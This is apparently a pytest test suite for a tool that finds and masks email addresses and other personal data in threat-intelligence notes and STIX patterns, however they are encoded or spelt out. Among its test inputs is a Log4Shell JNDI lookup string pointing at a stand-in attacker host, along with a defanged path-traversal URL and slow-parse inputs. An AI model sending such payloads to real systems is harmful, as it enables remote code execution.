"""Texts in which something is written for something else: what is meant, where it stands, and what that costs."""

from __future__ import annotations

import base64
import json
import re
import time
from collections.abc import Callable
from html.entities import html5
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from exchange.model import personal
from exchange.model.personal import MARK, Choice, Refusal
from exchange.model.spelling import forms, parts, plain

OURS = Choice(internal=("cert.example",), allowed=("hub.example", "partage@ville.example"))
NAMED = {f"&{name}": sign for name, sign in html5.items() if name[-1] == ";" and sign in "@.-_+'bo"}

WAYS: dict[str, Callable[[str], str]] = {
    "itself": lambda sign: sign,
    "a soft hyphen": lambda sign: f"\u00ad{sign}",
    "no space": lambda sign: f"\u200b{sign}\u2060",
    "direction": lambda sign: f"\u202e{sign}\u2066",
    "a tag": lambda sign: f"{sign}\U000e0041",
    "decimal": lambda sign: f"&#{ord(sign)};",
    "decimal with zeros": lambda sign: f"&#00{ord(sign)};",
    "hexadecimal": lambda sign: f"&#x{ord(sign):X};",
    "an entity in an entity": lambda sign: f"&amp;amp;#x{ord(sign):x};",
    "per cent": lambda sign: "".join(f"%{octet:02X}" for octet in sign.encode()),
    "per cent in lower case": lambda sign: "".join(f"%{octet:02x}" for octet in sign.encode()),
    "per cent twice": lambda sign: "".join(f"%25{octet:02X}" for octet in sign.encode()),
    "per cent four times": lambda sign: "".join(f"%252525{octet:02X}" for octet in sign.encode()),
    "an entity in per cent": lambda sign: f"%26%23{ord(sign)}%3B",
    "per cent in an entity": lambda sign: f"&#37;{ord(sign):02X}" if sign.isascii() else sign,
    "a soft line break": lambda sign: f"=\n{sign}=\r\n",
    "an escape": lambda sign: f"\\u{ord(sign):04x}",
    "an escape in an escape": lambda sign: f"\\\\u{ord(sign):04X}",
    "a long escape": lambda sign: f"\\U{ord(sign):08x}",
    "braces": lambda sign: f"\\x{{{ord(sign):x}}}\\u{{ad}}",
}
SIGNS: dict[str, list[str]] = {
    "@": [
        "@", "\uff20", "\ufe6b", "&commat;", "=40", "\\x40", "\\@", "[at]", " (at) ", " { AT } ", "<at>", "[@]", "(a)",
        "[à]", " [arobase] ", "(chez)", "\u00a0[\u00a0at\u00a0]\u00a0",
    ],
    ".": [
        ".", "\u3002", "\uff0e", "&period;", "=2E", "=2e", "\\x2e", "\\.", "\\\\.", "[.]", "(dot)", " [dot] ",
        " {.} ", "[ DOT ]", "(point)",
    ],
    "-": ["-", "\u2011", "&dash;", "=2D", "\\-"],
    "é": ["é", "=C3=A9", "=E9", "%E9", "&eacute;", "%C3%A9"],
    "_": ["_", "&lowbar;", "\\_", "=5F"],
}  # fmt: skip
SECRET = "jean-rené.o_tremblay@mail-1.ville.example"


@st.composite
def disguised(draw: st.DrawFn, secret: str = SECRET) -> str:
    """A mailbox of which each sign is written in one of the ways."""
    made = ""
    for sign in secret:
        way = draw(st.sampled_from(list(WAYS)))
        made += draw(st.sampled_from(SIGNS[sign])) if way == "itself" and sign in SIGNS else WAYS[way](sign)
    return made


@given(
    disguised(), st.sampled_from(["", "Vu par ", "to=", "mailto:", "10.1.2.3 "]), st.sampled_from([" hier", "", "\n"])
)
@example("jean-rené.o_tremblay@mail-1.ville&#46;example", "", "")
def test_a_mailbox_is_found_however_it_is_written(written: str, before: str, behind: str) -> None:
    """And nothing of it is left; the first look, on bytes, misses none."""
    document = {"type": "note", "content": f"Note. {before}{written}{behind} fin"}
    for ascii_only in (True, False):
        assert personal.suspect(json.dumps(document, ensure_ascii=ascii_only).encode(), OURS)
    left = personal.strip(document, personal.find(document, OURS))
    assert not isinstance(left, Refusal)
    text = left["content"]
    assert MARK in text
    assert text.startswith("Note. ") and text.endswith(" fin")
    rest = text.replace("Note. ", "").replace(before, "").replace(behind, "").replace("fin", "").replace(MARK, "")
    assert not any(sign.isalnum() for sign in rest)
    assert personal.find(left, OURS) == ()


def test_what_may_stay_may_stay_however_it_is_written() -> None:
    plainly = {
        "type": "note",
        "content": "partage&#64;ville.example, abuse%2540mairie.example, zoe [at] www.hub.example",
    }
    assert personal.find(plainly, OURS) == ()


SPELT = [
    "bob at ville dot example", "BOB AT VILLE DOT EXAMPLE", "bob dot roy at mail dot ville dot gc dot ca",
    "bob at mail.ville dot ca", "bob_roy_at_ville_dot_ca", "bob -at- ville -dot- example", "bob *at* ville *dot* ca",
    "bob arobase ville point qc point ca", "bob arobase ville.example", "bob\u00a0at\u00a0ville\u00a0dot\u00a0ca",
    "bob&#32;at&#32;ville&#32;dot&#32;ca", "bob [at] ville dot ca", "bob@ville dot ca",
    "bob dot roy@ville.example", "bob dot roy [at] ville.example",
]  # fmt: skip


@pytest.mark.parametrize("text", SPELT)
@pytest.mark.parametrize("frame", ["{}", "Vu: {}.", "({}) fin", "Ask {}, or call."])
def test_a_mailbox_that_is_spelt_out(text: str, frame: str) -> None:
    document = {"type": "note", "content": f"x {frame.format(text)} x"}
    left = personal.strip(document, personal.find(document, OURS))
    assert left == {"type": "note", "content": f"x {frame.format(MARK)} x"}
    assert personal.suspect(json.dumps(document).encode(), OURS)


@pytest.mark.parametrize(
    "text",
    [
        "hosted at evil dot example", "look at Python dot notation", "The payload was at evil dot com and moved",
        "aimed at the dot in the centre", "bob at ville.example", "served at bad.example dot net",
        "at evil dot com", "called at object dot method", "look at a dot on the screen", "meet at that dot com",
        "seen at 10 dot 4 dot 3 dot 2", "bob at ville dot of", "bob at ville dot notation", "bob at ville dot c",
        "bob at ville point ca", "to handle the dot com boom at once", "x = 40 at 50 dot 60",
        "GET /?id=40evil.example HTTP/1.1", "?a=25&b=2Ex", "see 3 (a) evil.example", "{at} [dot]", "&commat; &#64; %40",
        "log4j:${jndi:ldap://evil.example/a}", "hxxp://evil[.]example/%2e%2e/a", "@user point de vente",
        "d41d8cd98f00b204e9800998ecf8427e=40", "a&b;c", "100%", "\\x4", "&#xD800;", "\\ud800",
        "&#x110000;", "\\U00110000", "&nosuch;", "=\n",
    ],
)  # fmt: skip
def test_ordinary_sentences_are_left(text: str) -> None:
    for content in (text, f"Note: {text}, then more."):
        assert personal.find({"type": "note", "content": content}, OURS) == ()


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("ip 10%2E4%2e3&#46;2 x", "10%2E4%2e3&#46;2"), ("ip 10.4\u200b.3.2 x", "10.4\u200b.3.2"),
        ("ip=10.4.3.2 %41", "10.4.3.2"), ("tel=514-555-0123 =40", "514-555-0123"),
        ("srv%2Dsql.corp x", "srv%2Dsql.corp"),
        ("C%3A%5CUsers%5Cjdoe%5Ca.exe", "jdoe"), ("/h&#111;me/jdoe/x", "jdoe"), ("login&#58; bdupont", "bdupont"),
        ("Mme&nbsp;Tremb\u00adlay est", "Tremb\u00adlay"), ("poste.cert&#46;example", "poste.cert&#46;example"),
        ("bob%40ville.example=\nx", "bob%40ville.example=\nx"),
        ("x\u200bbob@ville.example\u200b y", "x\u200bbob@ville.example\u200b"),
        ("a%2540b.example, bob@ville.example", "a%2540b.example"),
    ],
)  # fmt: skip
def test_what_is_cut_is_what_was_written(text: str, gone: str) -> None:
    """Also what is hidden by another reading of the same signs: a text is read as it stands, and as it is meant."""
    found = personal.find({"type": "note", "content": text}, OURS)
    assert gone in [text[each.start : each.stop] for each in found]


@pytest.mark.parametrize(
    "operand",
    [
        r"= 'Bob <bob&#64;ville.example>'", r"MATCHES '^bob\\x40ville\\.example$'",
        r"MATCHES 'bob\\u0040ville\\x2Eexample'",
        r"MATCHES 'bob\\@ville\\.example'", "= 'bob%2540ville.example'", "LIKE '%bob=40ville.example'",
        f"= h'{b'bob@ville.example'.hex()}'", f"= b'{base64.b64encode(b'bob@ville.example').decode()}'",
        f"IN (h'{'bob@ville.example'.encode('utf-16-le').hex()}', 'x')", "= 'bob at ville dot example'",
        "= 'b\u200bob@ville.example'",
    ],
)  # fmt: skip
def test_in_a_pattern(operand: str) -> None:
    """What is compared with a text counts as in it; with a sender it is the attacker's, unless it is inside."""
    for path, internal, found in (
        ("email-message:subject", False, True), ("email-addr:value", False, False), ("email-addr:value", True, True),
    ):  # fmt: skip
        said = operand
        if internal:
            for old, new in (("ville", "cert"), (b"ville".hex(), b"cert".hex()), ("dmlsbGU", "Y2VydA")):
                said = said.replace(old, new)
            if "b'" in operand:
                said = f"= b'{base64.b64encode(b'bob@cert.example').decode()}'"
            if "IN (h" in operand:
                said = f"= h'{'bob@cert.example'.encode('utf-16-le').hex()}'"
        stix = {"type": "indicator", "pattern_type": "stix", "pattern": f"[{path} {said}]"}
        assert bool(personal.find(stix, OURS)) is found, said
        assert personal.suspect(json.dumps(stix).encode(), OURS) or not found


def test_what_a_pattern_is_about_is_intelligence_however_it_is_written() -> None:
    stix: dict[str, Any] = {
        "type": "indicator",
        "pattern_type": "stix",
        "pattern": r"[email-addr:value MATCHES 'bad\\x40evil\\.example']",
    }
    for text in ("bad@evil.example", "bad[at]evil[.]example", "bad at evil dot example", "bad%2540evil.example"):
        assert personal.find({**stix, "description": f"Sent by {text}."}) == ()


def test_each_sign_by_its_name() -> None:
    assert {plain(f"x{name}x").text for name in NAMED} == {f"x{sign}x" for sign in NAMED.values()}  # type: ignore[union-attr]


@given(
    st.lists(
        st.sampled_from(
            [
                "a",
                "%",
                "25",
                "40",
                "&",
                "amp;",
                "#64;",
                "\\",
                "x40",
                "=",
                "\n",
                "\u00ad",
                "[at]",
                " dot ",
                " at ",
                "ca",
                "@",
                "é",
            ]
        ),
        max_size=20,
    ).map("".join)
)
def test_the_way_back_leads_to_the_same_signs(text: str) -> None:
    """Each part of the plain form stands somewhere; what was not written otherwise stands there as it is."""
    found = plain(text)
    if found is None:
        assert forms(text) == (text,)
        return
    assert forms(text) == (text, found.text)
    assert found.places == sorted(found.places) and len(found.places) == len(found.text) + 1
    for place, sign in enumerate(found.text):
        start, stop = found.back(place, place + 1)
        assert 0 <= start < stop <= len(text)
        assert sign == text[start] or stop - start > 1 or sign in "@.-"


def test_only_what_is_around_is_read_again() -> None:
    """A text of a megabyte with one sign that is written otherwise costs what it cost without."""
    text = "The actor moved at night; no dot was seen. " * 25_000
    assert list(parts(text)) == []
    (one,) = parts(f"{text} bob&#64;ville.example {text}")
    assert len(one.text) < 600
    assert one.near(*one.back(one.text.index("bob"), one.text.index("example")))
    assert not one.near(0, 10)
    assert not one.near(len(text) + 500, len(text) + 510)
    far = f"a%41{'x' * 400}a%41"
    assert [each.text for each in parts(far)] == [f"aA{'x' * 400}aA"]
    assert len(list(parts(f"a%41{'x' * 600}a%41"))) == 2


HOSTILE = [
    "%", "%25", "%2540", "&", "&amp;", "&#", "&#64;", "=", "=\n", "=40", "\\", "\\x40", "\\\\", "\u00ad", "a\u200b",
    "[", "[at",
    "[at]", "(", " (a) ", " at ", " dot ", "a at b dot ", "a at b dot ca ", "a_at_b_dot_ca_", "_at_", "_",
    "a dot ", "@",
    "a@b dot ", "&#38;", "%26", " arobase ", "a arobase b.", "a.", "%C3", "=C3", "\\u{", "&x", "例。", "a。",
    "bob&#64;ville.example ",
]  # fmt: skip


def _cost(text: str) -> float:
    """Seconds of this thread, the least of three."""
    least = float("inf")
    for _ in range(3):
        begun = time.thread_time()
        personal.find({"type": "note", "content": text}, OURS)
        personal.suspect(json.dumps({"type": "note", "content": text}, ensure_ascii=False).encode(), OURS)
        least = min(least, time.thread_time() - begun)
    return least


@pytest.mark.parametrize("piece", HOSTILE)
def test_four_times_the_text_costs_four_times_as_much(piece: str) -> None:
    short, long = (piece * (size // len(piece)) for size in (8_000, 32_000))
    least = _cost(short)
    assert _cost(long) <= 10 * least + 0.02, piece


@pytest.mark.parametrize(("layers", "read"), [(1, True), (4, True), (5, False), (50, False)])
def test_encodings_of_encodings_are_followed_four_times(layers: int, read: bool) -> None:
    """Each text costs what its length does, however deep."""
    text = "@"
    for layer in range(layers):
        text = WAYS["decimal" if layer % 2 else "per cent"](text[0]) + text[1:]
    assert (forms(text)[-1] == "@") is read


PAGES = [Path(__file__).parents[2] / "docs" / name for name in ("policy.md", "policy.fr.md")]


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.name)
def test_the_table_of_what_is_found(page: Path) -> None:
    """What operators read is what happens."""
    table = re.split(r"\n\| (?:Written with|Écrit avec) \|[^\n]*\n[^\n]*\n", page.read_text("utf-8"))[1].split(
        "\n\n", 1
    )[0]
    cells = [line.split("|")[2:4] for line in table.splitlines()]
    for column, found in ((0, True), (1, False)):
        written = [text for row in cells for text in re.findall("`([^`]+)`", row[column])]
        assert len(written) > 5
        for text in written:
            document = {"type": "note", "content": f"Note: {text}; fin"}
            left = personal.strip(document, personal.find(document))
            assert left == ({"type": "note", "content": f"Note: {MARK}; fin"} if found else document)
